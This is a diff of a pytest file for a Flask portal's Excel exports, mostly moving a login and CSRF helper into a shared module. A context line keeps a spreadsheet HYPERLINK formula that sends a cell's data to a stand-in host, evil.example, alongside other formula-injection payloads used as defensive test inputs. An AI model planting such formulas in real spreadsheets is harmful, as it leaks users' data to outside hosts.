@@ -8,9 +8,8 @@ import zipfile
 
 import openpyxl
 import pytest
-from flask.testing import FlaskClient
+from pages import signed_in
 
-from factories import PASSWORD
 from portal import clock
 from portal.documents import distribution
 from portal.documents import services as documents
@@ -23,7 +22,6 @@ from portal.xlsx import EXCEL_MAX_CELL_CHARS, FORMULA_TRIGGERS, workbook_bytes
 
 LINK = '=HYPERLINK("https://evil.example/?x="&B3,"点击")'
 HOSTILE = [LINK, "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
-CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
 
 
 def sheet_cells(data: bytes) -> list:
@@ -82,24 +80,7 @@ def test_whatever_is_stored_the_workbook_opens(app):
 
 # --- every export of the app -------------------------------------------------------------
 
-class PageClient(FlaskClient):
-    """Each request in its own application context, the test's session rolled back around it."""
-
-    def open(self, *args, **kwargs):
-        db.session.rollback()
-        with self.application.app_context():
-            response = super().open(*args, **kwargs)
-        db.session.rollback()
-        return response
-
-
-def browser(app, user) -> PageClient:
-    client = PageClient(app, app.response_class, use_cookies=True)
-    token = CSRF_RE.search(client.get("/login").get_data(as_text=True)).group(1)
-    response = client.post("/login", data={"csrf_token": token, "username": user.username,
-                                           "password": PASSWORD})
-    assert response.status_code in (302, 303)
-    return client
+browser = signed_in
 
 
 @pytest.fixture
